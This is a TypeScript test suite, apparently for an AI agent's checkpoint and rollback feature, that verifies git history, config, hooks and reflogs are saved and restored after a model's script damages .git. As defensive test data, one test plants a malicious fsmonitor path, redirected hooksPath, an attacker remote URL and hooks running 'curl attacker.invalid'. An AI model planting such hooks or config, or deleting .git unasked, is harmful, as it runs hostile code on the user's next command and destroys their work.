// Checkpoints keep the history of the workspace's own repository (its `.git`, which a model's
// script can delete unasked) in the shadow repository, trusting none of its files: objects are
// verified against their names, refs kept only where the store holds all they reach, links not
// followed, and a repository over the size limit is left out. A rollback puts the history back.
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { listCheckpoints } from '../../../src/checkpoints/checkpoint-list';
import { keptRefs } from '../../../src/checkpoints/keep-git-history';
import { rollbackWorkspace } from '../../../src/checkpoints/rollback';
import { shadowRepositoryFor } from '../../../src/checkpoints/shadow-repository';
import type { CheckpointLimits, SnapshotOutcome } from '../../../src/checkpoints/snapshot';
import { takeCheckpoint } from '../../../src/checkpoints/take-checkpoint';
import { packOf } from '../../../src/checkpoints/workspace-git-objects';
import { tempDir } from '../../helpers/temp-dirs';

const LIMITS: CheckpointLimits = { maxFiles: 1000, maxFileBytes: 1024 * 1024, timeoutMs: 20_000, keep: 50, maxGitBytes: 64 * 1024 * 1024 };
const BY_TOOL = { sessionId: 'session-1', turn: 3, toolCallId: 'call-1', tool: 'terminal', reason: 'tool_call' as const };

let home: string;
let workspace: string;

beforeEach(() => {
  home = tempDir('history-home-');
  workspace = tempDir('history-workspace-');
});

/** The user's own git, in the workspace (as the user runs it; the checkpoints never do). */
function userGit(args: string[], cwd = workspace, input?: string): string {
  return execFileSync('git', args, {
    cwd,
    encoding: 'utf8',
    stdio: 'pipe',
    ...(input === undefined ? {} : { input }),
    env: { PATH: process.env.PATH, HOME: cwd, GIT_CEILING_DIRECTORIES: path.dirname(cwd), GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null', GIT_AUTHOR_NAME: 'user', GIT_AUTHOR_EMAIL: 'u@example.invalid', GIT_COMMITTER_NAME: 'user', GIT_COMMITTER_EMAIL: 'u@example.invalid' },
  }).trim();
}

function commitFile(name: string, content: string, message: string, cwd = workspace): string {
  writeFileSync(path.join(cwd, name), content);
  userGit(['add', name], cwd);
  userGit(['commit', '-q', '-m', message], cwd);
  return userGit(['rev-parse', 'HEAD'], cwd);
}

/** A repository with a packed commit (gc'd) and a loose one after it, on main, and a tag. */
function repositoryWithHistory(): { packed: string; loose: string } {
  userGit(['init', '-q', '-b', 'main']);
  const packed = commitFile('a.txt', 'first\n', 'packed work');
  userGit(['tag', 'v1']);
  userGit(['gc', '-q']);
  const loose = commitFile('b.txt', 'second\n', 'unpushed work');
  return { packed, loose };
}

function shadowGit(args: string[]): string {
  return execFileSync('git', args, { encoding: 'utf8', env: { PATH: process.env.PATH, GIT_DIR: shadowRepositoryFor(home, workspace).gitDirectory, GIT_CONFIG_NOSYSTEM: '1', GIT_CONFIG_GLOBAL: '/dev/null' } }).trim();
}

function shadowHas(id: string): boolean {
  try {
    shadowGit(['cat-file', '-e', id]);
    return true;
  } catch {
    return false;
  }
}

async function checkpoint(limits = LIMITS): Promise<SnapshotOutcome> {
  return takeCheckpoint(shadowRepositoryFor(home, workspace), BY_TOOL, limits);
}

async function taken(limits = LIMITS) {
  const outcome = await checkpoint(limits);
  if (outcome.kind !== 'taken') throw new Error(`expected a checkpoint, got ${JSON.stringify(outcome)}`);
  return outcome;
}

async function refsKept(id: number): Promise<Record<string, string>> {
  return Object.fromEntries(await keptRefs(shadowRepositoryFor(home, workspace), id, 10_000));
}

test("a checkpoint keeps the repository's commits and refs; a rollback brings back what a script deleted from .git", async () => {
  const { packed, loose } = repositoryWithHistory();
  const { checkpoint: first } = await taken();
  expect(first.git).toMatchObject({ head: 'ref: refs/heads/main', refs: 2 });
  expect(await refsKept(first.id)).toEqual({ 'refs/heads/main': loose, 'refs/tags/v1': packed });
  expect(shadowHas(loose) && shadowHas(packed)).toBe(true);

  // What a model's own script can do, unseen by the approval gate.
  rmSync(path.join(workspace, '.git/objects'), { recursive: true });
  rmSync(path.join(workspace, '.git/refs'), { recursive: true });
  rmSync(path.join(workspace, '.git/packed-refs'), { force: true });
  expect(() => userGit(['log', '--format=%s'])).toThrow();

  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
  expect(result.histories[0]?.refs).toEqual(expect.arrayContaining([`refs/heads/main -> ${loose.slice(0, 12)}`, `refs/tags/v1 -> ${packed.slice(0, 12)}`, 'HEAD -> refs/heads/main']));
  expect(userGit(['log', '--format=%s'])).toBe('unpushed work\npacked work');
  expect(userGit(['rev-parse', 'v1'])).toBe(packed);
  userGit(['fsck', '--no-dangling']);
  // The rollback's own checkpoint (its undo) recorded the broken repository as it found it: no refs.
  expect((await refsKept(result.undo.id))).toEqual({});
});

test("the README's recovery by hand: the user's git fetches a checkpoint's refs from the store", async () => {
  const { packed, loose } = repositoryWithHistory();
  const { checkpoint: first } = await taken();
  const elsewhere = tempDir('history-recovered-');
  userGit(['init', '-q'], elsewhere);
  userGit(['fetch', '-q', shadowRepositoryFor(home, workspace).gitDirectory, `refs/hermes/${String(first.id).padStart(8, '0')}/refs/*:refs/recovered/*`], elsewhere);
  expect(userGit(['for-each-ref', '--format=%(objectname) %(refname)'], elsewhere).split('\n')).toEqual([`${loose} refs/recovered/heads/main`, `${packed} refs/recovered/tags/v1`]);
  expect(userGit(['log', '--format=%s', 'refs/recovered/heads/main'], elsewhere)).toBe('unpushed work\npacked work');
});

test('only the history itself can be rolled back (--path .git), the files left as they are', async () => {
  const { loose } = repositoryWithHistory();
  const { checkpoint: first } = await taken();
  writeFileSync(path.join(workspace, 'a.txt'), 'changed since\n');
  rmSync(path.join(workspace, '.git/refs/heads/main'));
  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', scope: '.git', limits: LIMITS });
  expect(result.restored).toEqual([]);
  expect(readFileSync(path.join(workspace, 'a.txt'), 'utf8')).toBe('changed since\n');
  expect(userGit(['rev-parse', 'main'])).toBe(loose);
});

test('unchanged refs take no new checkpoint and read no object; a new commit takes one, copying only the new objects', async () => {
  repositoryWithHistory();
  const { checkpoint: first } = await taken();
  expect((await checkpoint()).kind).toBe('unchanged');
  // A commit of the files as they are: the tree is the same, the history is not.
  userGit(['commit', '-q', '--allow-empty', '-m', 'empty but unpushed']);
  const second = await taken();
  expect(second.checkpoint.id).toBe(first.id + 1);
  expect(shadowHas(userGit(['rev-parse', 'HEAD']))).toBe(true);
  expect(Object.keys(await refsKept(second.checkpoint.id)).sort()).toEqual(['refs/heads/main', 'refs/tags/v1']);
});

test('a loose object whose bytes are not what its name says is not kept, nor a ref pointing at it', async () => {
  repositoryWithHistory();
  // A well-formed object filed under another object's name.
  const forgedId = 'f'.repeat(40);
  mkdirSync(path.join(workspace, '.git/objects/ff'), { recursive: true });
  writeFileSync(path.join(workspace, '.git/objects/ff', forgedId.slice(2)), deflateSync(Buffer.from('blob 5\0hello')));
  writeFileSync(path.join(workspace, '.git/refs/tags/forged'), `${forgedId}\n`);
  // A commit whose parent is missing: its history is not whole in the store.
  const orphanParent = 'e'.repeat(40);
  const tree = userGit(['rev-parse', 'HEAD^{tree}']);
  const dangling = userGit(['hash-object', '-w', '-t', 'commit', '--stdin'], workspace, `tree ${tree}\nparent ${orphanParent}\nauthor a <a@b> 0 +0000\ncommitter a <a@b> 0 +0000\n\nx\n`);
  writeFileSync(path.join(workspace, '.git/refs/tags/dangling'), `${dangling}\n`);

  const { checkpoint: first } = await taken();
  expect(shadowHas(forgedId)).toBe(false);
  const kept = await refsKept(first.id);
  expect(kept['refs/tags/forged']).toBeUndefined();
  expect(kept['refs/tags/dangling']).toBeUndefined();
  expect(Object.keys(kept).sort()).toEqual(['refs/heads/main', 'refs/tags/v1']);
  expect(first.git).toMatchObject({ refs: 2, dropped: 2 });
});

test('a ref file or packed-refs that is a link is not read; malformed refs are left out', async () => {
  const { packed } = repositoryWithHistory();
  const head = userGit(['rev-parse', 'HEAD']);
  // Links to files outside the repository naming commits it holds: were they followed, the refs would be kept.
  const elsewhere = tempDir('history-elsewhere-');
  writeFileSync(path.join(elsewhere, 'ref'), `${head}\n`);
  writeFileSync(path.join(elsewhere, 'packed-refs'), `${packed} refs/heads/from-outside\n`);
  rmSync(path.join(workspace, '.git/packed-refs'));
  symlinkSync(path.join(elsewhere, 'packed-refs'), path.join(workspace, '.git/packed-refs'));
  symlinkSync(path.join(elsewhere, 'ref'), path.join(workspace, '.git/refs/heads/linked'));
  symlinkSync(elsewhere, path.join(workspace, '.git/refs/linked-folder'));
  writeFileSync(path.join(workspace, '.git/refs/tags/v1'), `${packed}\n`);
  writeFileSync(path.join(workspace, '.git/refs/heads/bad..name'), `${head}\n`);
  writeFileSync(path.join(workspace, '.git/refs/heads/garbage'), 'not an id\n');

  const { checkpoint: first } = await taken();
  expect(await refsKept(first.id)).toEqual({ 'refs/heads/main': head, 'refs/tags/v1': packed });
});

test('a link in place of .git/objects (or of .git) is not followed: nothing behind it is copied', async () => {
  repositoryWithHistory();
  const elsewhere = tempDir('history-elsewhere-');
  userGit(['init', '-q', '-b', 'main'], elsewhere);
  const secret = commitFile('secret.txt', 'the user\'s other project\n', 'elsewhere', elsewhere);
  rmSync(path.join(workspace, '.git/objects'), { recursive: true });
  symlinkSync(path.join(elsewhere, '.git/objects'), path.join(workspace, '.git/objects'));
  writeFileSync(path.join(workspace, '.git/refs/heads/main'), `${secret}\n`);

  const { checkpoint: first } = await taken();
  expect(shadowHas(secret)).toBe(false);
  expect(await refsKept(first.id)).toEqual({});

  // .git itself a link: no history at all.
  rmSync(path.join(workspace, '.git'), { recursive: true });
  symlinkSync(path.join(elsewhere, '.git'), path.join(workspace, '.git'));
  writeFileSync(path.join(workspace, 'changed.txt'), 'x');
  const { checkpoint: second } = await taken();
  expect(second.git).toBeUndefined();
  expect(shadowHas(secret)).toBe(false);
});

test('a repository over checkpoints.max_git_mb: its history is not kept (a warning says why), its files are', async () => {
  userGit(['init', '-q', '-b', 'main']);
  // Incompressible bytes in a pack larger than the limit.
  const noise = Buffer.alloc(3 * 1024 * 1024);
  for (let index = 0; index < noise.length; index += 4) noise.writeUInt32LE((index * 2654435761) >>> 0, index);
  writeFileSync(path.join(workspace, 'big.bin'), noise);
  userGit(['add', 'big.bin']);
  userGit(['commit', '-q', '-m', 'big']);
  userGit(['gc', '-q']);
  rmSync(path.join(workspace, 'big.bin'));
  writeFileSync(path.join(workspace, 'notes.txt'), 'kept\n');

  const outcome = await taken({ ...LIMITS, maxGitBytes: 1024 * 1024 });
  expect(outcome.warning).toContain('checkpoints.max_git_mb');
  expect(outcome.checkpoint.git).toMatchObject({ refs: 0 });
  expect(outcome.checkpoint.changed.files).toEqual(['notes.txt']);
  expect(await refsKept(outcome.checkpoint.id)).toEqual({});
  // The files' pack, and the small one of the .git's config and hooks: not the repository's 3 MB.
  const packs = readdirSync(path.join(shadowRepositoryFor(home, workspace).gitDirectory, 'objects/pack')).filter((file) => file.endsWith('.pack'));
  expect(packs.reduce((sum, file) => sum + statSync(path.join(shadowRepositoryFor(home, workspace).gitDirectory, 'objects/pack', file)).size, 0)).toBeLessThan(1024 * 1024);
  expect(shadowHas(userGit(['rev-parse', 'HEAD']))).toBe(false);
  // The refs unchanged, the next turns take no new checkpoint for it.
  expect((await checkpoint({ ...LIMITS, maxGitBytes: 1024 * 1024 })).kind).toBe('unchanged');
});

test('a pruned checkpoint takes its refs with it', async () => {
  repositoryWithHistory();
  const limits = { ...LIMITS, keep: 2 };
  const { checkpoint: first } = await taken(limits);
  for (let index = 0; index < 3; index++) {
    writeFileSync(path.join(workspace, 'counter.txt'), String(index));
    BY_TOOL.sessionId = 'session-1';
    await taken(limits);
  }
  const ids = (await listCheckpoints(shadowRepositoryFor(home, workspace), 10_000)).map((checkpoint) => checkpoint.id);
  const namespaces = new Set(shadowGit(['for-each-ref', '--format=%(refname)', 'refs/hermes/']).split('\n').map((ref) => Number(ref.split('/')[2])));
  expect([...namespaces].sort()).toEqual(ids.sort());
  expect(ids).toContain(first.id);
  expect(existsSync(path.join(workspace, '.git'))).toBe(true);
});

test("a compaction of the store neither has the repository's packs read again nor loses what a ref reaches only later", async () => {
  userGit(['init', '-q', '-b', 'main']);
  commitFile('a.txt', 'first\n', 'on main');
  userGit(['checkout', '-q', '-b', 'tmp']);
  const later = commitFile('b.txt', 'second\n', 'on a branch deleted, then made again');
  userGit(['checkout', '-q', 'main']);
  userGit(['gc', '-q']);
  userGit(['branch', '-q', '-D', 'tmp']);
  // Nor does a reflog name it (one would keep it).
  userGit(['reflog', 'expire', '--expire=now', '--all']);
  const { checkpoint: first } = await taken();
  expect(Object.keys(await refsKept(first.id))).toEqual(['refs/heads/main']);

  // What a snapshot does every few checkpoints: the packs brought in are merged, and what no ref reached goes.
  shadowGit(['repack', '-a', '-d', '-q']);
  shadowGit(['prune', '--expire=now']);
  expect(shadowHas(later)).toBe(false);
  // The repository's pack is kept by its name (its checksum), as index-pack names it.
  const [workspacePack] = readdirSync(path.join(workspace, '.git/objects/pack')).filter((file) => file.endsWith('.pack'));
  const shadowPacks = () => readdirSync(path.join(shadowRepositoryFor(home, workspace).gitDirectory, 'objects/pack'));
  expect(shadowPacks()).not.toContain(workspacePack);

  // A new commit: only it is copied, not the repository's pack again.
  commitFile('c.txt', 'third\n', 'new');
  const { checkpoint: second } = await taken();
  expect(shadowPacks()).not.toContain(workspacePack);
  expect(Object.keys(await refsKept(second.id))).toEqual(['refs/heads/main']);

  // The branch made again points at a commit the store dropped: the pack is read again for it.
  userGit(['branch', 'tmp', later]);
  const { checkpoint: third } = await taken();
  expect(await refsKept(third.id)).toMatchObject({ 'refs/heads/tmp': later });
  expect(shadowPacks()).toContain(workspacePack);
});

test("a repository too slow to copy in the snapshot's time leaves the files' checkpoint the time to finish", async () => {
  userGit(['init', '-q', '-b', 'main']);
  writeFileSync(path.join(workspace, 'notes.txt'), 'kept\n');
  // Packs git takes seconds to index (about 6 s here, alone), one run each, under the size limit.
  mkdirSync(path.join(workspace, '.git/objects/pack'), { recursive: true });
  for (let index = 0; index < 500; index++) {
    const pack = packOf([{ type: 'blob', body: randomBytes(64) }]);
    writeFileSync(path.join(workspace, '.git/objects/pack', `pack-${createHash('sha1').update(pack.subarray(0, -20)).digest('hex')}.pack`), pack);
  }
  writeFileSync(path.join(workspace, '.git/refs/heads/main'), `${'a'.repeat(40)}\n`);

  // The history gets half of what is left (about 2 s): the files' steps after it keep seconds even on a loaded machine.
  const outcome = await taken({ ...LIMITS, timeoutMs: 5000 });
  expect(outcome.warning).toContain('checkpoints.timeout_seconds');
  expect(outcome.checkpoint.changed.files).toEqual(['notes.txt']);
  expect(outcome.checkpoint.git).toMatchObject({ refs: 0 });
});

test("a rollback writes nothing through a link in .git: a refs folder made a link to another repository's is left alone", async () => {
  const { loose } = repositoryWithHistory();
  const { checkpoint: first } = await taken();
  const elsewhere = tempDir('history-elsewhere-');
  userGit(['init', '-q', '-b', 'main'], elsewhere);
  const theirs = commitFile('theirs.txt', 'another project\n', 'theirs', elsewhere);
  const rollBack = () => rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
  // The script deletes the history and points refs/ at the user's other repository.
  rmSync(path.join(workspace, '.git/refs'), { recursive: true });
  rmSync(path.join(workspace, '.git/objects'), { recursive: true });
  symlinkSync(path.join(elsewhere, '.git/refs'), path.join(workspace, '.git/refs'));
  const refsLinked = await rollBack();
  expect(refsLinked.histories[0]?.skipped.sort()).toEqual(['.git/refs/heads/main', '.git/refs/tags/v1']);
  expect(userGit(['rev-parse', 'main'], elsewhere)).toBe(theirs);
  expect(existsSync(path.join(elsewhere, '.git/refs/tags/v1'))).toBe(false);

  // Then objects/ too: no pack is written into the other repository.
  rmSync(path.join(workspace, '.git/objects'), { recursive: true });
  symlinkSync(path.join(elsewhere, '.git/objects'), path.join(workspace, '.git/objects'));
  const objectsLinked = await rollBack();
  expect(objectsLinked.histories[0]?.skipped).toEqual(['.git/objects/pack']);
  expect(readdirSync(path.join(elsewhere, '.git/objects/pack'))).toEqual([]);

  // Once the links are gone, the history comes back.
  rmSync(path.join(workspace, '.git/refs'));
  rmSync(path.join(workspace, '.git/objects'));
  await rollBack();
  expect(userGit(['rev-parse', 'main'])).toBe(loose);
});

test('loose objects over checkpoints.max_git_mb together: the history is not kept, with a warning', async () => {
  userGit(['init', '-q', '-b', 'main']);
  for (let index = 0; index < 3; index++) writeFileSync(path.join(workspace, `part${index}.bin`), randomBytes(512 * 1024));
  userGit(['add', '.']);
  userGit(['commit', '-q', '-m', 'parts, loose']);
  // Not in the work tree: the files' checkpoint would hold the same blobs.
  for (let index = 0; index < 3; index++) rmSync(path.join(workspace, `part${index}.bin`));
  const outcome = await taken({ ...LIMITS, maxGitBytes: 1024 * 1024 });
  expect(outcome.warning).toContain('checkpoints.max_git_mb');
  expect(outcome.checkpoint.git).toMatchObject({ refs: 0 });
  expect(shadowHas(userGit(['rev-parse', 'HEAD']))).toBe(false);
});

test('a repository nested in the workspace has its history kept and put back too', async () => {
  repositoryWithHistory();
  const nested = path.join(workspace, 'vendor/lib');
  mkdirSync(nested, { recursive: true });
  userGit(['init', '-q', '-b', 'trunk'], nested);
  const nestedCommit = commitFile('lib.txt', 'nested work\n', 'nested, unpushed', nested);
  const { checkpoint: first } = await taken();
  expect(first.nestedGit).toMatchObject({ 'vendor/lib': { head: 'ref: refs/heads/trunk', refs: 1 } });
  expect(await keptRefs(shadowRepositoryFor(home, workspace), first.id, 10_000, 'vendor/lib')).toEqual([['refs/heads/trunk', nestedCommit]]);
  // Unchanged: no new checkpoint; a commit in the nested repository only: a new one.
  expect((await checkpoint()).kind).toBe('unchanged');
  userGit(['commit', '-q', '--allow-empty', '-m', 'more nested work'], nested);
  expect((await checkpoint()).kind).toBe('taken');

  rmSync(path.join(nested, '.git/objects'), { recursive: true });
  rmSync(path.join(nested, '.git/refs'), { recursive: true });
  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
  expect(result.histories.map((history) => history.repository)).toEqual(['', 'vendor/lib']);
  // The workspace's own namespace holds the nested one's below it: none of its refs is written into the workspace's .git.
  expect(existsSync(path.join(workspace, '.git/nested'))).toBe(false);
  expect(userGit(['log', '--format=%s'], nested)).toBe('nested, unpushed');
  expect(userGit(['log', '--format=%s', '-1'])).toBe('unpushed work');
});

test("a link to another repository is no nested repository: nothing of that one's is copied", async () => {
  repositoryWithHistory();
  const elsewhere = tempDir('history-elsewhere-');
  userGit(['init', '-q', '-b', 'main'], elsewhere);
  const secret = commitFile('secret.txt', 'the user\'s other project\n', 'elsewhere', elsewhere);
  symlinkSync(elsewhere, path.join(workspace, 'linked'));
  const { checkpoint: first } = await taken();
  expect(first.nestedGit).toBeUndefined();
  expect(shadowHas(secret)).toBe(false);
});

test("a submodule's repository (in .git/modules, its folder holding only a .git file) has its history kept and put back", async () => {
  repositoryWithHistory();
  const upstream = tempDir('history-upstream-');
  userGit(['init', '-q', '-b', 'main'], upstream);
  commitFile('lib.txt', 'published\n', 'published', upstream);
  userGit(['-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', upstream, 'libs/core']);
  userGit(['commit', '-q', '-m', 'add the submodule']);
  const submodule = path.join(workspace, 'libs/core');
  const unpushed = commitFile('lib.txt', 'local work\n', 'submodule work, unpushed', submodule);
  expect(readFileSync(path.join(submodule, '.git'), 'utf8')).toMatch(/^gitdir: /);
  const { checkpoint: first } = await taken();
  expect(first.nestedGit).toMatchObject({ '.git/modules/libs/core': { head: 'ref: refs/heads/main' } });
  expect(Object.fromEntries(await keptRefs(shadowRepositoryFor(home, workspace), first.id, 10_000, '.git/modules/libs/core'))).toMatchObject({ 'refs/heads/main': unpushed });
  // A commit in the submodule only: a new checkpoint.
  userGit(['commit', '-q', '--allow-empty', '-m', 'more submodule work'], submodule);
  const { checkpoint: second } = await taken();

  // What a model's script can do: the submodule's commits live nowhere else.
  rmSync(path.join(workspace, '.git/modules/libs/core/objects'), { recursive: true });
  rmSync(path.join(workspace, '.git/modules/libs/core/refs'), { recursive: true });
  rmSync(path.join(workspace, '.git/modules/libs/core/packed-refs'), { force: true });
  expect(() => userGit(['log', '--format=%s'], submodule)).toThrow();
  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), second, { sessionId: 'operator', limits: LIMITS });
  expect(result.histories.map((history) => history.repository)).toEqual(['', '.git/modules/libs/core']);
  expect(userGit(['log', '--format=%s', '-2'], submodule)).toBe('more submodule work\nsubmodule work, unpushed');
  userGit(['fsck', '--no-dangling'], submodule);
  expect(userGit(['submodule', 'status'])).toContain('libs/core');
});

test("a rollback puts back the repository's config, hooks and reflogs as the checkpoint found them, and removes a hook planted since", async () => {
  repositoryWithHistory();
  // A commit only the reflog still names: amended away.
  const amended = commitFile('c.txt', 'draft\n', 'draft');
  userGit(['commit', '-q', '--amend', '-m', 'final']);
  userGit(['config', 'remote.origin.url', 'https://example.invalid/user/thesis.git']);
  writeFileSync(path.join(workspace, '.git/hooks/pre-commit'), '#!/bin/sh\nexec ./lint\n', { mode: 0o755 });
  // A hook the user linked to a script of the project's: not kept (a link), yet no planted one either.
  symlinkSync('../../tools/pre-push', path.join(workspace, '.git/hooks/pre-push'));
  const config = readFileSync(path.join(workspace, '.git/config'), 'utf8');
  const reflog = readFileSync(path.join(workspace, '.git/logs/HEAD'), 'utf8');
  expect(reflog).toContain(amended);
  const { checkpoint: first } = await taken();
  expect(first.git).toMatchObject({ files: expect.any(Number) });

  // What a model's script can do: git runs its program on the user's next command, pushes elsewhere, and the way back to the draft is gone.
  userGit(['config', 'core.fsmonitor', '/tmp/evil.sh']);
  userGit(['config', 'core.hooksPath', '/tmp/hooks']);
  userGit(['config', 'remote.origin.url', 'https://attacker.invalid/x.git']);
  writeFileSync(path.join(workspace, '.git/hooks/pre-commit'), '#!/bin/sh\ncurl attacker.invalid\n');
  writeFileSync(path.join(workspace, '.git/hooks/post-checkout'), '#!/bin/sh\ncurl attacker.invalid\n', { mode: 0o755 });
  rmSync(path.join(workspace, '.git/logs'), { recursive: true });
  rmSync(path.join(workspace, '.git/objects'), { recursive: true });

  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
  // Only what differs is written (and named): not the hooks left as they were.
  expect(result.histories[0]?.files?.sort()).toEqual(['config', 'hooks/pre-commit', 'logs/HEAD', 'logs/refs/heads/main']);
  expect(result.histories[0]?.removed).toEqual(['hooks/post-checkout']);
  expect(readFileSync(path.join(workspace, '.git/config'), 'utf8')).toBe(config);
  expect(readFileSync(path.join(workspace, '.git/hooks/pre-commit'), 'utf8')).toBe('#!/bin/sh\nexec ./lint\n');
  expect(statSync(path.join(workspace, '.git/hooks/pre-commit')).mode & 0o100).toBe(0o100);
  expect(existsSync(path.join(workspace, '.git/hooks/post-checkout'))).toBe(false);
  expect(readlinkSync(path.join(workspace, '.git/hooks/pre-push'))).toBe('../../tools/pre-push');
  expect(readFileSync(path.join(workspace, '.git/logs/HEAD'), 'utf8')).toBe(reflog);
  // The reflog's commits came back with the refs': the draft is there to go back to.
  expect(userGit(['log', '-1', '--format=%s', 'HEAD@{1}'])).toBe('draft');
  userGit(['fsck', '--no-dangling']);

  // The rollback's own checkpoint kept what it found: undoing it brings the planted hook back.
  const undone = await rollbackWorkspace(shadowRepositoryFor(home, workspace), result.undo, { sessionId: 'operator', limits: LIMITS });
  expect(undone.histories[0]?.files).toEqual(expect.arrayContaining(['hooks/post-checkout']));
  expect(userGit(['config', 'core.fsmonitor'])).toBe('/tmp/evil.sh');
});

test("a change to the config alone takes a new checkpoint; a link in .git/hooks or .git/logs is not followed", async () => {
  repositoryWithHistory();
  const { checkpoint: first } = await taken();
  expect((await checkpoint()).kind).toBe('unchanged');
  userGit(['config', 'core.fsmonitor', '/tmp/evil.sh']);
  const second = await taken();
  expect(second.checkpoint.id).toBe(first.id + 1);

  const elsewhere = tempDir('history-elsewhere-');
  writeFileSync(path.join(elsewhere, 'secret'), 'the user\'s secret\n');
  symlinkSync(path.join(elsewhere, 'secret'), path.join(workspace, '.git/hooks/linked'));
  symlinkSync(elsewhere, path.join(workspace, '.git/logs/refs/linked'));
  const third = await taken();
  const files = shadowGit(['ls-tree', '-r', '--name-only', `refs/hermes/${String(third.checkpoint.id).padStart(8, '0')}/hermes-git-files`]).split('\n');
  expect(files).not.toContain('hooks/linked');
  expect(files.some((name) => name.startsWith('logs/refs/linked'))).toBe(false);
  expect(third.checkpoint.git?.filesLeftOut).toBeGreaterThanOrEqual(1);
  // Rolled back, the link (a hook the checkpoint did not have) goes; what it pointed at stays.
  await rollbackWorkspace(shadowRepositoryFor(home, workspace), second.checkpoint, { sessionId: 'operator', limits: LIMITS });
  expect(existsSync(path.join(workspace, '.git/hooks/linked'))).toBe(false);
  expect(readFileSync(path.join(elsewhere, 'secret'), 'utf8')).toBe('the user\'s secret\n');
});

test("a workspace that is a linked worktree of a repository outside it: the checkpoint says its history is not kept, and nothing of that repository is read or written", async () => {
  const main = tempDir('history-main-');
  userGit(['init', '-q', '-b', 'main'], main);
  commitFile('a.txt', 'first\n', 'in the main repository', main);
  rmSync(workspace, { recursive: true });
  userGit(['worktree', 'add', '-q', '-b', 'feature', workspace], main);
  const work = commitFile('b.txt', 'feature work\n', 'on the worktree', workspace);
  const objectsBefore = readdirSync(path.join(main, '.git/objects')).sort();

  const outcome = await taken();
  expect(outcome.warning).toMatch(/is not kept: its \.git is a file naming a linked worktree's repository outside the workspace/);
  expect(outcome.checkpoint.git).toMatchObject({ refs: 0, leftOut: expect.stringContaining('linked worktree') });
  expect(outcome.checkpoint.changed.files.sort()).toEqual(['a.txt', 'b.txt']);
  expect(shadowHas(work)).toBe(false);
  // Unchanged, no new checkpoint (the warning is logged again).
  const again = await checkpoint();
  expect(again).toMatchObject({ kind: 'unchanged', warning: expect.stringContaining('linked worktree') });

  writeFileSync(path.join(workspace, 'b.txt'), 'changed\n');
  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), outcome.checkpoint, { sessionId: 'operator', limits: LIMITS });
  expect(result.histories).toEqual([]);
  expect(readFileSync(path.join(workspace, 'b.txt'), 'utf8')).toBe('feature work\n');
  expect(readdirSync(path.join(main, '.git/objects')).sort()).toEqual(objectsBefore);
  expect(userGit(['rev-parse', 'feature'], main)).toBe(work);
});

test("a linked worktree whose main repository is in the workspace too: that repository's history (the worktree's branch with it) is kept and put back", async () => {
  const main = path.join(workspace, 'main');
  mkdirSync(main);
  userGit(['init', '-q', '-b', 'main'], main);
  commitFile('a.txt', 'first\n', 'in the main repository', main);
  userGit(['worktree', 'add', '-q', '-b', 'feature', path.join(workspace, 'wt')], main);
  const work = commitFile('b.txt', 'feature work\n', 'on the worktree, unpushed', path.join(workspace, 'wt'));

  const outcome = await taken();
  expect(outcome.warning).toBeUndefined();
  expect(Object.fromEntries(await keptRefs(shadowRepositoryFor(home, workspace), outcome.checkpoint.id, 10_000, 'main'))).toMatchObject({ 'refs/heads/feature': work });

  rmSync(path.join(main, '.git/objects'), { recursive: true });
  rmSync(path.join(main, '.git/refs'), { recursive: true });
  await rollbackWorkspace(shadowRepositoryFor(home, workspace), outcome.checkpoint, { sessionId: 'operator', limits: LIMITS });
  expect(userGit(['log', '--format=%s'], path.join(workspace, 'wt'))).toBe('on the worktree, unpushed\nin the main repository');
  userGit(['fsck', '--no-dangling'], main);
});

test('a SHA-256 repository (git init --object-format=sha256) has its history, config and reflogs kept, in a store of its own, and put back', async () => {
  userGit(['init', '-q', '-b', 'main', '--object-format=sha256']);
  const packed = commitFile('a.txt', 'first\n', 'packed work');
  userGit(['tag', 'v1']);
  userGit(['gc', '-q']);
  const loose = commitFile('b.txt', 'second\n', 'unpushed work');
  expect(loose).toMatch(/^[0-9a-f]{64}$/);
  const config = readFileSync(path.join(workspace, '.git/config'), 'utf8');
  const { checkpoint: first } = await taken();
  expect(first.git).toMatchObject({ objectFormat: 'sha256', head: 'ref: refs/heads/main', refs: 2 });
  expect((await checkpoint()).kind).toBe('unchanged');

  rmSync(path.join(workspace, '.git/objects'), { recursive: true });
  rmSync(path.join(workspace, '.git/refs'), { recursive: true });
  rmSync(path.join(workspace, '.git/logs'), { recursive: true });
  rmSync(path.join(workspace, '.git/packed-refs'), { force: true });
  // With no refs folder git takes it for no repository: the config written by hand.
  writeFileSync(path.join(workspace, '.git/config'), `${config}[core]\n\thooksPath = /tmp/hooks\n`);
  const result = await rollbackWorkspace(shadowRepositoryFor(home, workspace), first, { sessionId: 'operator', limits: LIMITS });
  expect(result.histories[0]?.refs).toEqual(expect.arrayContaining([`refs/heads/main -> ${loose.slice(0, 12)}`, `refs/tags/v1 -> ${packed.slice(0, 12)}`]));
  expect(result.histories[0]?.pack?.name).toMatch(/^pack-[0-9a-f]{64}\.pack$/);
  expect(userGit(['log', '--format=%s'])).toBe('unpushed work\npacked work');
  expect(readFileSync(path.join(workspace, '.git/config'), 'utf8')).toBe(config);
  userGit(['fsck', '--no-dangling']);
  expect(userGit(['log', '-1', '--format=%s', 'HEAD@{1}'])).toBe('packed work');
});

test("a pruned checkpoint takes a SHA-256 repository's refs with it, from the SHA-256 store", async () => {
  userGit(['init', '-q', '-b', 'main', '--object-format=sha256']);
  commitFile('a.txt', 'first\n', 'first');
  const limits = { ...LIMITS, keep: 2 };
  for (let index = 0; index < 4; index++) {
    userGit(['commit', '-q', '--allow-empty', '-m', `more ${index}`]);
    await taken(limits);
  }
  const ids = (await listCheckpoints(shadowRepositoryFor(home, workspace), 10_000)).map((checkpoint) => checkpoint.id);
